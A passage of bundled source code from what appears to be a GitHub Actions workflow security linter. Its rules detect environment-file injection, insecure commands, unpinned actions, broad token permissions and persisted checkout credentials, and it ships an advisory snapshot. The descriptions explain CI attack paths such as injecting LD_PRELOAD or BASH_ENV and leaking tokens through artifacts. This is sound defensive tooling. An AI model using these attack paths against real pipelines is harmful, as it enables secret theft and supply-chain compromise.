            if (type && type !== 'string')
                return one('constrained', 'high');
            return scope.inputsFromCaller ? one('free', 'medium') : one('constrained', 'medium');
        }
        case 'env': {
            const value = second ? scope.env(second) : undefined;
            if (value === undefined || depth > 4)
                return [];
            return sourcesOfTemplate(value, scope, depth + 1).map((s) => ({ ...s, path: `${key(path)} = ${s.path}` }));
        }
        case 'matrix': {
            const m = second ? scope.matrix(second) : undefined;
            if (!m || 'literal' in m)
                return [];
            return sourcesOfTemplate(`\${{ ${m.expression} }}`, scope, depth + 1).map((s) => ({
                ...s,
                path: `${key(path)} from ${s.path}`,
                confidence: 'low',
            }));
        }
        case 'steps': {
            if (third !== 'outputs')
                return one('constrained', 'high');
            const uses = scope.stepUses(second)?.toLowerCase();
            const action = uses?.replace(/@.*$/, '');
            const tainted = action ? TAINTED_OUTPUTS[action] : undefined;
            if (tainted && tainted.test(path[3] ?? ''))
                return one('free', 'high');
            return one('free', 'low');
        }
        case 'needs':
        case 'jobs':
            return third === 'outputs' ? one('free', 'low') : one('constrained', 'high');
        default:
            return one('free', 'low');
    }
}
/** The tainted values an expression's result can contain (comparisons and tests yield booleans, so none). */
function expressionSources(e, scope, depth = 0) {
    const path = accessPath(e);
    if (path)
        return classify(path, scope, depth);
    if (e instanceof ast/* Grouping */.aU)
        return expressionSources(e.group, scope, depth);
    if (e instanceof ast/* Logical */.oD) {
        // `a && b` and `a || b` yield one of their operands.
        return e.args.flatMap((a) => expressionSources(a, scope, depth));
    }
    if (e instanceof ast/* FunctionCall */.R6) {
        const name = callName(e);
        if (name === 'format' || name === 'join' || name === 'tojson' || name === 'fromjson')
            return e.args.flatMap((a) => expressionSources(a, scope, depth));
        return [];
    }
    if (e instanceof ast/* IndexAccess */.p_)
        return expressionSources(e.expr, scope, depth);
    return [];
}
/** The tainted values every `${{ }}` of a string passes on. */
function sourcesOfTemplate(text, scope, depth = 0) {
    return templateExpressions(text).flatMap((e) => (e.parsed ? expressionSources(e.parsed, scope, depth) : []));
}
/** The embedded expressions of a string, parsed. */
function templateExpressions(text) {
    return embeddedExpressions(text).map((e) => ({ ...e, parsed: parseExpression(e.source) }));
}
/** The worst taint of a set of sources, with the confidence of the surest source of that taint. */
function worst(sources) {
    const rank = { free: 0, constrained: 1, trusted: 2 };
    const conf = { high: 0, medium: 1, low: 2 };
    return [...sources].sort((a, b) => rank[a.taint] - rank[b.taint] || conf[a.confidence] - conf[b.confidence])[0];
}

;// CONCATENATED MODULE: ./packages/workflows/src/rules/github-env.ts






const FILES = /\$\{?(GITHUB_ENV|GITHUB_PATH|GITHUB_OUTPUT)\}?|\$env:(GITHUB_ENV|GITHUB_PATH|GITHUB_OUTPUT)/;
const sourcesOf = (source, scope) => {
    const e = parseExpression(source);
    return e ? expressionSources(e, scope) : [];
};
/** The worst outsider-written value a line passes on through `$VAR` (env indirection). */
function lineSource(line, scope) {
    const sources = [...line.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?|\$env:([A-Za-z_][A-Za-z0-9_]*)/g)].flatMap((m) => {
        const name = m[1] ?? m[2] ?? '';
        if (/^GITHUB_(ENV|PATH|OUTPUT)$/.test(name))
            return [];
        const value = scope.env(name);
        return value === undefined ? [] : templateExpressions(value).flatMap((e) => (e.parsed ? sourcesOf(e.source, scope) : []));
    });
    // An inline `${{ }}` on the line is template-injection's finding already.
    return worst(sources.filter((s) => s.taint === 'free'));
}
/** Outsider-written values appended to GITHUB_ENV, GITHUB_PATH or GITHUB_OUTPUT, directly or through env. */
const githubEnv = {
    id: 'github-env',
    title: 'Outsider-controlled value written to GITHUB_ENV, GITHUB_PATH or GITHUB_OUTPUT',
    severity: 'high',
    confidence: 'high',
    category: 'security',
    description: 'A value with a newline can set any environment variable for the following steps (`LD_PRELOAD`, `NODE_OPTIONS`, `BASH_ENV`) or put a folder of its choosing first on PATH; through GITHUB_OUTPUT it forges other outputs. Passing the value through `env:` does not help here: the file is parsed line by line.',
    fix: 'Do not write outsiders\' text to these files; validate it to a fixed shape first (`[[ "$V" =~ ^[0-9]+$ ]]`), or pass it to later steps as an artifact treated as data.',
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const job of model.jobs) {
            for (const step of job.steps) {
                if (step.run === undefined || !FILES.test(step.run))
                    continue;
                const scope = stepScope(model, job, step);
                const runNode = child(step.node, 'run');
                let offset = 0;
                for (const line of step.run.split('\n')) {
                    const file = FILES.exec(line);
                    if (file && runNode) {
                        const source = lineSource(line, scope);
                        const severity = source ? injectionSeverity('free', model.exposure) : undefined;
                        if (source && severity) {
                            const name = file[1] ?? file[2] ?? '';
                            out.push({
                                message: `${source.path}, which an outsider writes, is appended to ${name}`,
                                line: lineWithin(model, runNode, step.run, offset),
                                severity: name === 'GITHUB_OUTPUT' && severity === 'critical' ? 'high' : severity,
                                confidence: source.confidence,
                            });
                        }
                    }
                    offset += line.length + 1;
                }
            }
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/glob-filters.ts

/** What is wrong with one filter pattern, or undefined. GitHub's filter globs: `*`, `**`, `?`, `+`, `[]`, `!`. */
function globProblem(pattern, kind) {
    if (pattern.trim() !== pattern)
        return 'has leading or trailing spaces, which are matched literally';
    if (pattern === '' || pattern === '!')
        return 'is empty';
    const body = pattern.startsWith('!') ? pattern.slice(1) : pattern;
    let open = -1;
    for (let i = 0; i < body.length; i += 1) {
        const c = body[i];
        if (c === '\\')
            i += 1;
        else if (c === '[') {
            if (open >= 0)
                return 'opens a [ ] class inside another';
            open = i;
        }
        else if (c === ']') {
            if (open < 0)
                return 'closes a [ ] class it never opened';
            if (i === open + 1)
                return 'has an empty [ ] class';
            open = -1;
        }
    }
    if (open >= 0)
        return 'has a [ that is never closed';
    if (/\*\*\*/.test(body))
        return 'has *** (use ** for any depth)';
    if (kind === 'path' && body.startsWith('./'))
        return "starts with './', which never matches (paths are relative to the repository root, without './')";
    if (kind === 'ref') {
        if (/\s|~|\^|:|\.\.|@\{/.test(body))
            return 'contains a character git does not allow in ref names';
        if (body.startsWith('refs/heads/'))
            return "starts with 'refs/heads/', which branch filters already imply (it never matches)";
    }
    return undefined;
}
const FILTERS = {
    branches: 'ref',
    'branches-ignore': 'ref',
    tags: 'ref',
    'tags-ignore': 'ref',
    paths: 'path',
    'paths-ignore': 'path',
};
/** Branch, tag and path filters whose glob never matches what was meant. */
const globFilters = {
    id: 'glob-filters',
    title: 'Filter pattern that cannot match',
    severity: 'medium',
    confidence: 'high',
    category: 'validation',
    description: "GitHub's parser accepts any string as a branch, tag or path filter; an unclosed `[`, a './' prefix or a character git forbids in refs makes the filter silently match nothing, so the workflow never runs (or never skips).",
    fix: 'Write the pattern in the filter syntax: `release/**`, `v[0-9]+.*`, `src/**`.',
    appliesTo: ['workflow'],
    check(model) {
        const out = [];
        for (const event of ['push', 'pull_request', 'pull_request_target', 'workflow_run']) {
            const node = child(model.on, event);
            for (const [key, kind] of Object.entries(FILTERS)) {
                for (const item of items(child(node, key))) {
                    const p = yaml_tree_text(item);
                    if (p === undefined)
                        continue;
                    const problem = globProblem(p, kind);
                    if (problem)
                        out.push({ message: `${event}.${key} '${p}' ${problem}`, line: item.line });
                }
            }
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/insecure-commands.ts

function allows(env) {
    const v = child(env, 'ACTIONS_ALLOW_UNSECURE_COMMANDS');
    return v && /^(true|1|yes)$/i.test(yaml_tree_text(v) ?? '') ? v : undefined;
}
/** ACTIONS_ALLOW_UNSECURE_COMMANDS turning `::set-env` and `::add-path` back on. */
const insecureCommands = {
    id: 'insecure-commands',
    title: 'Insecure workflow commands re-enabled',
    severity: 'high',
    confidence: 'high',
    category: 'security',
    description: 'With ACTIONS_ALLOW_UNSECURE_COMMANDS, anything a step prints (a test name, a log line from a dependency) can set environment variables or PATH for the following steps with `::set-env` / `::add-path`, which GitHub disabled in 2020 for that reason.',
    fix: 'Remove ACTIONS_ALLOW_UNSECURE_COMMANDS and write to $GITHUB_ENV / $GITHUB_PATH instead.',
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        const flag = (env, where) => {
            const v = allows(env);
            if (v)
                out.push({ message: `${where} sets ACTIONS_ALLOW_UNSECURE_COMMANDS`, line: v.line });
        };
        flag(model.env, 'the workflow');
        for (const job of model.jobs) {
            flag(job.env, `job '${job.id}'`);
            for (const step of job.steps)
                flag(step.env, `a step of '${job.id}'`);
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/job-hygiene.ts

/** `secrets: inherit` on a reusable-workflow call. */
const secretsInherit = {
    id: 'secrets-inherit',
    title: 'Every secret passed to a called workflow',
    severity: 'medium',
    confidence: 'high',
    category: 'security',
    description: 'With `secrets: inherit` the called workflow receives every secret of the caller, including ones it never needs; one compromised step there can read them all.',
    fix: 'Pass only the secrets the called workflow declares: `secrets: { registry-token: ${{ secrets.REGISTRY_TOKEN }} }`.',
    appliesTo: ['workflow'],
    check(model) {
        return model.jobs
            .filter((job) => yaml_tree_text(child(job.node, 'secrets')) === 'inherit')
            .map((job) => ({
            message: `job '${job.id}' passes every secret to ${job.calls ?? 'the called workflow'}`,
            line: child(job.node, 'secrets')?.line ?? job.line,
        }));
    },
};
/** Jobs that can run for the runner's six-hour default. */
const missingTimeout = {
    id: 'missing-timeout',
    title: 'Job without timeout-minutes',
    severity: 'low',
    confidence: 'high',
    category: 'hygiene',
    description: 'A hung job holds its runner (and on hosted runners, bills) for the six-hour default, and blocks the pipeline behind it.',
    fix: 'Set `timeout-minutes` on the job, a few times its usual duration.',
    appliesTo: ['workflow'],
    check(model) {
        return model.jobs
            .filter((job) => !job.calls && child(job.node, 'timeout-minutes') === undefined)
            .map((job) => ({ message: `job '${job.id}' has no timeout-minutes (the default is 360)`, line: job.line }));
    },
};
const PR_TRIGGERS = ['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment', 'issue_comment'];
/** Self-hosted runners reachable from pull requests. */
const selfHostedPullRequest = {
    id: 'self-hosted-pr',
    title: 'Self-hosted runner on pull request events',
    severity: 'high',
    confidence: 'high',
    category: 'security',
    description: 'On a public repository anyone can open a pull request whose code then runs on the self-hosted machine, which usually persists between jobs and sits inside the network.',
    fix: 'Use GitHub-hosted (or ephemeral, isolated) runners for pull request events, or restrict the job to trusted authors with an `if:` on the author association.',
    appliesTo: ['workflow'],
    check(model) {
        const events = PR_TRIGGERS.filter((t) => model.triggers.has(t));
        if (events.length === 0)
            return [];
        const out = [];
        for (const job of model.jobs) {
            const runsOn = child(job.node, 'runs-on');
            const labels = [...items(runsOn), ...items(child(runsOn, 'labels'))].map(yaml_tree_text);
            if (labels.some((l) => l?.toLowerCase() === 'self-hosted') || child(runsOn, 'group') !== undefined) {
                out.push({
                    message: `job '${job.id}' runs on a self-hosted runner and is triggered by ${events.join(', ')}`,
                    line: runsOn?.line ?? job.line,
                });
            }
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/data/actions-advisories.json
const actions_advisories_namespaceObject = /*#__PURE__*/JSON.parse('{"source":"GitHub Advisory Database, reviewed advisories of the GitHub Actions ecosystem (OSV files advisories/github-reviewed/... of github/advisory-database, read from its mirror xtqqczze/github-advisory-database)","taken":"2026-12-06","complete":false,"note":"A partial snapshot: the advisories below were read one by one. `slipway audit --refresh-advisories FILE` writes a complete one from GitHub\'s REST API (GET /advisories?ecosystem=actions).","advisories":[{"id":"GHSA-mrrh-fwg8-r2c3","aliases":["CVE-2025-30066"],"summary":"tj-actions changed-files through 45.0.7 allows remote attackers to discover secrets by reading actions logs.","severity":"high","package":"tj-actions/changed-files","vulnerable":"<= 45.0.7","patched":"46.0.1"},{"id":"GHSA-cxww-7g56-2vh6","aliases":["CVE-2024-42471"],"summary":"@actions/download-artifact has an Arbitrary File Write via artifact extraction","severity":"high","package":"actions/download-artifact","vulnerable":">= 4.0.0, < 4.1.7","patched":"4.1.7"},{"id":"GHSA-vqf5-2xx6-9wfm","aliases":["CVE-2025-24362"],"summary":"GitHub PAT written to debug artifacts","severity":"high","package":"github/codeql-action","vulnerable":">= 3.26.11, < 3.28.3","patched":"3.28.3"},{"id":"GHSA-vqf5-2xx6-9wfm","aliases":["CVE-2025-24362"],"summary":"GitHub PAT written to debug artifacts","severity":"high","package":"github/codeql-action","vulnerable":">= 2.26.11, < 3.0.0","patched":"3.28.3"},{"id":"GHSA-qmg3-hpqr-gqvc","aliases":["CVE-2025-30154"],"summary":"Multiple Reviewdog actions were compromised during a specific time period","severity":"high","package":"reviewdog/action-setup","vulnerable":"= 1","patched":null}]}');
;// CONCATENATED MODULE: ./packages/workflows/src/advisories.ts


const advisory = src/* decode.object */.D4.object({
    id: src/* decode.string */.D4.string,
    aliases: src/* decode.withDefault */.D4.withDefault(src/* decode.array */.D4.array(src/* decode.string */.D4.string), []),
    summary: src/* decode.string */.D4.string,
    severity: src/* decode.string */.D4.string,
    package: src/* decode.string */.D4.string,
    vulnerable: src/* decode.string */.D4.string,
    patched: src/* decode.withDefault */.D4.withDefault(src/* decode.nullable */.D4.nullable(src/* decode.string */.D4.string), null),
});
const snapshot = src/* decode.object */.D4.object({
    source: src/* decode.string */.D4.string,
    taken: src/* decode.string */.D4.string,
    complete: src/* decode.withDefault */.D4.withDefault(src/* decode.boolean */.D4.boolean, false),
    advisories: src/* decode.array */.D4.array(advisory),
});
/** Decodes an advisory snapshot (the shipped one, or one written by a refresh). */
function decodeAdvisorySnapshot(json, source) {
    return (0,src/* decodeDocument */.w8)(snapshot, json, source);
}
let shipped;
/** The snapshot shipped with Slipway (data/actions-advisories.json). */
function shippedAdvisories() {
    shipped ??= decodeAdvisorySnapshot(actions_advisories_namespaceObject, 'data/actions-advisories.json');
    return shipped;
}
/** `v4.1.2` -> [4, 1, 2]; undefined for anything that is not a version. */
function parseVersion(v) {
    const m = /^v?(\d+)(?:\.(\d+))?(?:\.(\d+))?$/.exec(v.trim());
    return m ? [Number(m[1]), Number(m[2] ?? 0), Number(m[3] ?? 0)] : undefined;
}
function compare(a, b) {
    for (let i = 0; i < 3; i += 1)
        if ((a[i] ?? 0) !== (b[i] ?? 0))
            return (a[i] ?? 0) - (b[i] ?? 0);
    return 0;
}
/** True when a version satisfies a GitHub range (`>= 4.0.0, < 4.1.7`, `<= 45.0.7`, `= 1`). */
function inRange(version, range) {
    const v = parseVersion(version);
    if (!v)
        return false;
    return range.split(',').every((part) => {
        const m = /^\s*(>=|<=|>|<|=)\s*v?([\d.]+)\s*$/.exec(part);
        const bound = m ? parseVersion(m[2] ?? '') : undefined;
        if (!m || !bound)
            return false;
        const c = compare(v, bound);
        switch (m[1]) {
            case '>=':
                return c >= 0;
            case '<=':
                return c <= 0;
            case '>':
                return c > 0;
            case '<':
                return c < 0;
            default:
                return c === 0;
        }
    });
}
/** The advisories that affect `owner/repo` at a version. */
function advisoriesFor(db, repo, version) {
    // A moving tag (`v4`) points at the line's latest release today: only an advisory naming that tag matches it.
    const full = /^v?\d+\.\d+\.\d+$/.test(version.trim());
    return db.advisories.filter((a) => a.package.toLowerCase() === repo &&
        (full ? inRange(version, a.vulnerable) : a.vulnerable.trim() === `= ${version.trim().replace(/^v/, '')}`));
}

;// CONCATENATED MODULE: ./packages/workflows/src/rules/pinning.ts


const SHA = /^[0-9a-f]{40}$/;
const RELEASE_TAG = /^v\d+(\.\d+){0,2}$/;
/** Every `uses:` of a file with its line: steps and reusable-workflow calls. */
const usesCache = new WeakMap();
function usesOf(model) {
    const hit = usesCache.get(model);
    if (hit)
        return hit;
    const out = [];
    usesCache.set(model, out);
    for (const job of model.jobs) {
        if (job.calls)
            out.push({ uses: job.calls, line: child(job.node, 'uses')?.line ?? job.line });
        for (const step of job.steps)
            if (step.uses)
                out.push({ uses: step.uses, line: step.usesLine });
    }
    return out;
}
/** Unpinned `uses:` of steps and of reusable-workflow calls. */
const unpinnedUses = {
    id: 'unpinned-uses',
    title: 'Action or reusable workflow not pinned to a commit SHA',
    severity: 'high',
    confidence: 'high',
    category: 'security',
    description: 'A tag or branch can be moved to new code by whoever controls the action repository (the tj-actions/changed-files compromise of March 2025 rewrote every tag). Only a full commit SHA is immutable. Local actions (`./path`) and same-repository calls (`$/path@ref`, `./.github/workflows/x.yml`) come from the repository itself and are not reported.',
    fix: 'Pin to the full 40-character commit SHA and keep the version in a comment: `uses: owner/action@<sha> # v4.2.2` (`slipway audit --fix` writes it).',
    appliesTo: ['workflow', 'action'],
    check(model, options) {
        const out = [];
        for (const { uses, line } of usesOf(model)) {
            const remote = remoteUses(uses);
            if (!remote || SHA.test(remote.ref))
                continue;
            // An expression (`uses: ${{ matrix.action }}`) is refused by GitHub's parser already.
            if (uses.includes('${{'))
                continue;
            const trusted = options.trustedOwners.some((o) => o.toLowerCase() === remote.owner);
            if (trusted && RELEASE_TAG.test(remote.ref))
                continue;
            const what = remote.ref === '' ? 'has no ref at all' : `is pinned to '${remote.ref}', a tag or branch that can move`;
            out.push({
                message: `'${uses}' ${what}`,
                line,
                ...(trusted ? { fix: `'${remote.owner}' is trusted for release tags: pin to a release tag such as v1, or to a commit SHA.` } : {}),
            });
        }
        return out;
    },
};
const DIGEST = /@sha256:[0-9a-f]{64}$/;
/** Container images of jobs, services and `docker://` steps without a digest. */
const unpinnedImage = {
    id: 'unpinned-image',
    title: 'Container image not pinned to a digest',
    severity: 'medium',
    confidence: 'high',
    category: 'security',
    description: 'An image tag (even a version tag) can be re-pushed; the job then runs whatever the registry serves today. An image without a tag, or `:latest`, changes on every release.',
    fix: 'Reference the image by digest: `image: node:24@sha256:<digest>` (keep the tag for readers; the digest decides).',
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        const checkImage = (image, line) => {
            // An expression (`${{ matrix.image }}`) cannot be judged statically.
            if (!image || image.includes('${{') || DIGEST.test(image))
                return;
            const tag = /:([\w][\w.-]*)$/.exec(image.split('/').pop() ?? '')?.[1];
            if (!tag || tag === 'latest')
                out.push({ message: `container image '${image}' has ${tag ? 'the moving tag latest' : 'no tag'} and no digest`, line });
            else
                out.push({ message: `container image '${image}' is pinned to a tag, not a digest`, line, confidence: 'medium' });
        };
        for (const job of model.jobs) {
            const container = child(job.node, 'container');
            checkImage(yaml_tree_text(container) ?? yaml_tree_text(child(container, 'image')), (child(container, 'image') ?? container)?.line ?? job.line);
            for (const [, service] of entries(child(job.node, 'services'))) {
                checkImage(yaml_tree_text(service) ?? yaml_tree_text(child(service, 'image')), (child(service, 'image') ?? service).line);
            }
            for (const step of job.steps)
                if (step.uses?.startsWith('docker://'))
                    checkImage(step.uses.slice('docker://'.length), step.usesLine);
        }
        if (model.kind === 'action') {
            const runs = child(model.root, 'runs');
            const image = yaml_tree_text(child(runs, 'image'));
            if (yaml_tree_text(child(runs, 'using')) === 'docker' && image?.startsWith('docker://'))
                checkImage(image.slice('docker://'.length), child(runs, 'image')?.line ?? 1);
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/known-vulnerable.ts



/** The version a `uses:` line claims: its tag, or the `# vX.Y.Z` comment beside a SHA pin. */
function claimedVersion(ref, lineText) {
    if (/^[0-9a-f]{40}$/.test(ref)) {
        const comment = /#\s*(v?\d+(?:\.\d+){0,2})\b/.exec(lineText)?.[1];
        return comment ? { version: comment, fromComment: true } : undefined;
    }
    return /^v?\d+(\.\d+){0,2}$/.test(ref) ? { version: ref, fromComment: false } : undefined;
}
const sets = new WeakMap();
function packageSet(db) {
    let set = sets.get(db);
    if (!set) {
        set = new Set(db.advisories.map((a) => a.package.toLowerCase()));
        sets.set(db, set);
    }
    return set;
}
/** Actions at a version the advisory database (the shipped snapshot, or the API online) lists as vulnerable. */
const knownVulnerableActions = {
    id: 'known-vulnerable-actions',
    title: 'Action version with a published advisory',
    severity: 'high',
    confidence: 'high',
    category: 'security',
    description: "GitHub's advisory database lists vulnerabilities of actions (secrets in logs, file writes outside the workspace, compromised releases). The shipped snapshot is checked offline; with a token the online audit asks the API and resolves SHA pins to their tags.",
    fix: 'Upgrade to the patched version the advisory names, or remove the action.',
    appliesTo: ['workflow', 'action'],
    check(model, options) {
        const db = options.advisories ?? shippedAdvisories();
        const packages = packageSet(db);
        const out = [];
        for (const { uses, line } of usesOf(model)) {
            const r = remoteUses(uses);
            if (!r || !packages.has(`${r.owner}/${r.repo}`))
                continue;
            const claim = claimedVersion(r.ref, model.doc.lines[line - 1] ?? '');
            if (!claim)
                continue;
            for (const a of advisoriesFor(db, `${r.owner}/${r.repo}`, claim.version))
                out.push({
                    message: `${r.owner}/${r.repo} ${claim.version}${claim.fromComment ? ' (by its version comment)' : ''} is affected by ${a.id} (${a.aliases.join(', ') || 'no CVE'}): ${a.summary}`,
                    line,
                    confidence: claim.fromComment ? 'medium' : 'high',
                    fix: a.patched ? `Upgrade to ${a.patched} or later.` : 'Pin to a commit released after the advisory.',
                });
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/obfuscation.ts



/** `uses:` paths with `//`, `.` or `..` segments, and no-op expressions that hide what a value is. */
const obfuscation = {
    id: 'obfuscation',
    title: 'Obfuscated uses: path or expression',
    severity: 'low',
    confidence: 'high',
    category: 'security',
    description: 'Redundant path segments in `uses:` (`actions//checkout`, `owner/repo/./x`) and no-op expressions (`fromJSON(toJSON(x))`, `format()` of literals only) work the same but hide from reviewers and auditors what a step runs.',
    fix: 'Write the path and the value plainly.',
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const { uses, line } of usesOf(model)) {
            if (uses.startsWith('docker://'))
                continue;
            const path = uses.replace(/@[^@]*$/, '');
            const segments = path.split('/');
            // `./` (the repository's root action) and `./path/` are plain local paths.
            const local = path.startsWith('./');
            if (/\/\//.test(path) || segments.some((s, i) => (s === '.' && i > 0) || s === '..') || (!local && path.endsWith('/')))
                out.push({ message: `'${uses}' has redundant path segments`, line });
        }
        for (const { node, source, expr } of allExpressions(model)) {
            let why;
            visitAll(expr, (n) => {
                if (!(n instanceof ast/* FunctionCall */.R6))
                    return;
                const name = callName(n);
                const inner = n.args[0];
                if (name === 'fromjson' && inner instanceof ast/* FunctionCall */.R6 && callName(inner) === 'tojson')
                    why = 'fromJSON(toJSON(...)) is the value itself';
                if (name === 'format' && n.args.length > 0 && n.args.every(isConstant))
                    why = 'format() of literals is a literal';
            });
            if (why)
                out.push({ message: `\${{ ${source} }}: ${why}`, line: node.line });
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/permissions.ts

/** Jobs that run with the repository's default token because nothing sets `permissions`. */
const permissionsMissing = {
    id: 'permissions-missing',
    title: 'GITHUB_TOKEN permissions not declared',
    severity: 'medium',
    confidence: 'high',
    category: 'security',
    description: "Without a `permissions` block a job's GITHUB_TOKEN gets the repository or organisation default, which is write access to contents, packages and more on many repositories.",
    fix: 'Add `permissions: {}` at the top of the workflow and grant each job only what it needs, e.g. `permissions: { contents: read }` (`slipway audit --fix` infers the grants of well-known actions).',
    appliesTo: ['workflow'],
    check(model) {
        if (child(model.root, 'permissions') !== undefined)
            return [];
        // A workflow only ever called gets at most its caller's grants: the caller decides.
        const calledOnly = model.triggers.size > 0 && [...model.triggers.keys()].every((t) => t === 'workflow_call');
        return model.jobs
            .filter((job) => child(job.node, 'permissions') === undefined)
            .map((job) => ({
            message: calledOnly
                ? `job '${job.id}' declares no permissions and takes whatever its caller grants`
                : `job '${job.id}' runs with the default token permissions (no permissions at workflow or job level)`,
            line: job.line,
            ...(calledOnly ? { confidence: 'medium' } : {}),
        }));
    },
};
function broadGrants(node, where, topLevel, jobs) {
    if (!node)
        return [];
    const scalar = yaml_tree_text(node);
    if (scalar === 'write-all') {
        return [{ message: `${where} grants write-all: every scope of the token can write`, line: node.line, severity: 'high' }];
    }
    if (scalar === 'read-all') {
        return [
            {
                message: `${where} grants read-all: the token can read every scope (private code, secrets scanning alerts, packages), not only what the job uses`,
                line: node.line,
                fix: 'Grant only the scopes the jobs read: `permissions: { contents: read }`.',
            },
        ];
    }
    // At workflow level a write grant reaches every job, including those that run untrusted tools;
    // with one job it is that job's grant, until a second job is added.
    if (!topLevel)
        return [];
    return entries(node)
        .filter(([, v]) => yaml_tree_text(v) === 'write')
        .map(([scope]) => ({
        message: `${where} grants '${scope}: write' to every job`,
        line: keyLine(node, scope),
        ...(jobs < 2 ? { confidence: 'medium' } : {}),
        fix: `Set \`permissions: {}\` at workflow level and grant \`${scope}: write\` only in the job that needs it.`,
    }));
}
/** `write-all`, `read-all`, or write scopes granted to the whole workflow instead of the one job that needs them. */
const permissionsBroad = {
    id: 'permissions-broad',
    title: 'GITHUB_TOKEN permissions broader than needed',
    severity: 'medium',
    confidence: 'high',
    category: 'security',
    description: 'A token that can write is what an attacker who gets code execution in a job (a poisoned dependency, an injected script) uses to push code, publish packages or mint OIDC tokens; `read-all` hands every job read access to everything the repository holds.',
    fix: 'Grant scopes per job, and only the scopes that job uses; never `write-all` or `read-all`.',
    appliesTo: ['workflow'],
    check(model) {
        const out = broadGrants(child(model.root, 'permissions'), 'the workflow', true, model.jobs.length);
        for (const job of model.jobs)
            out.push(...broadGrants(child(job.node, 'permissions'), `job '${job.id}'`, false, 1));
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/persist-credentials.ts


/** The major version of a `uses:` ref (`v4.2.2` -> 4), or undefined for a SHA or branch. */
function majorOf(uses, comment) {
    const ref = uses.slice(uses.lastIndexOf('@') + 1);
    const m = /^v(\d+)/.exec(ref) ?? /#\s*v(\d+)/.exec(comment);
    return m ? Number(m[1]) : undefined;
}
/** What an upload step publishes: its `path:` lines. */
function uploadsWorkspace(path) {
    if (path === undefined)
        return true;
    // A path that names the checkout root (or everything) includes the credentials when they sit in .git/config.
    return path.split('\n').some((p) => /^(\.\/?|\*\*?|\$\{\{\s*github\.workspace\s*\}\}\/?)$/.test(p.trim()));
}
/** `actions/checkout` keeping the token on disk (ArtiPACKED). */
const persistCredentials = {
    id: 'persist-credentials',
    title: 'Checkout credentials persisted on disk',
    severity: 'high',
    confidence: 'high',
    category: 'security',
    description: "Unless `persist-credentials: false`, actions/checkout leaves the job's token on disk for later git commands: in .git/config before v6, in a file under $RUNNER_TEMP from v6. An artifact that uploads the checkout root publishes the .git/config copy to anyone who can download the run's artifacts (ArtiPACKED, 2024); any later step (a build script, a dependency) can read either copy.",
    fix: 'Add `with: { persist-credentials: false }` to the checkout step (or `true` with a comment where a later git push needs it).',
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const job of model.jobs) {
            const uploads = job.steps.filter((s) => s.uses && UPLOADERS.has(actionName(s.uses)));
            for (const step of job.steps) {
                if (!step.uses || actionName(step.uses) !== 'actions/checkout')
                    continue;
                const persist = withValue(step, 'persist-credentials');
                if (persist !== undefined)
                    continue;
                const major = majorOf(step.uses, model.doc.lines[step.usesLine - 1] ?? '');
                const inGitConfig = major === undefined || major < 6;
                const leaking = uploads.filter((u) => u.index > step.index && uploadsWorkspace(withValue(u, 'path')));
                if (leaking.length > 0 && inGitConfig) {
                    out.push({
                        message: `job '${job.id}' uploads the checkout root (line ${leaking[0]?.usesLine}) after a checkout that keeps the token in .git/config`,
                        line: step.usesLine,
                    });
                }
                else {
                    out.push({
                        message: `checkout in job '${job.id}' keeps the token on disk (${inGitConfig ? 'in .git/config' : 'under $RUNNER_TEMP'}) for every later step`,
                        line: step.usesLine,
                        severity: inGitConfig ? 'medium' : 'low',
                        confidence: 'medium',
                    });
                }
            }
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/references.ts


/** The keys a job's matrix defines (its axes and include keys), or undefined when it is computed. */
function matrixKeys(job) {
    const m = job.matrix;
    if (!m)
        return new Set();
    if (m.kind !== 'map')
        return undefined;
    const keys = new Set();
    for (const [k, v] of entries(m)) {
        if (k === 'include')
            for (const i of items(v))
                for (const [ik] of entries(i))
                    keys.add(ik);
        else if (k !== 'exclude')
            keys.add(k);
        if (yaml_tree_text(v)?.includes('${{'))
            return undefined;
    }
    return keys;
}
/** Every `${{ }}` (and bare `if:`) of a node, with the scalar it sits in. */
function expressionsIn(node, bareIf, out = []) {
    if (!node)
        return out;
    if (node.kind === 'scalar') {
        if (typeof node.value === 'string')
            for (const e of embeddedExpressions(node.value))
                out.push({ node, source: e.source });
    }
    else if (node.kind === 'seq')
        node.items.forEach((i) => expressionsIn(i, bareIf, out));
    else
        for (const [k, v] of node.entries) {
            if (bareIf && k === 'if' && v.kind === 'scalar' && typeof v.value === 'string' && !v.value.includes('${{'))
                out.push({ node: v, source: conditionSource(v.value) });
            else
                expressionsIn(v, bareIf, out);
        }
    return out;
}
/** `steps.<id>`, `needs.<job>` and `matrix.<key>` that name nothing, and step outputs read before the step runs. */
const unknownReference = {
    id: 'unknown-reference',
    title: 'Expression names a step, job or matrix key that does not exist',
    severity: 'medium',
    confidence: 'high',
    category: 'validation',
    description: "GitHub's parser accepts `steps.bulid.outputs.x`, `needs.lint.result` without `needs: lint`, and `matrix.node` without that axis; at run time each is an empty string, so a condition silently goes the wrong way or a script gets nothing.",
    fix: 'Correct the name, add the job to `needs:`, or add the key to the matrix.',
    appliesTo: ['workflow'],
    check(model) {
        const out = [];
        const jobIds = new Set(model.jobs.map((j) => j.id));
        for (const job of model.jobs) {
            const keys = matrixKeys(job);
            const needs = new Set(job.needs);
            const scan = (node, stepIndex) => {
                for (const { node: at, source } of expressionsIn(node, true)) {
                    const e = parseExpression(source);
                    if (!e)
                        continue;
                    for (const p of readPaths(e)) {
                        if (p.length < 2)
                            continue;
                        const [root, name = ''] = p;
                        if (name === '*' || name === '?')
                            continue;
                        if (root === 'needs' && !needs.has(name))
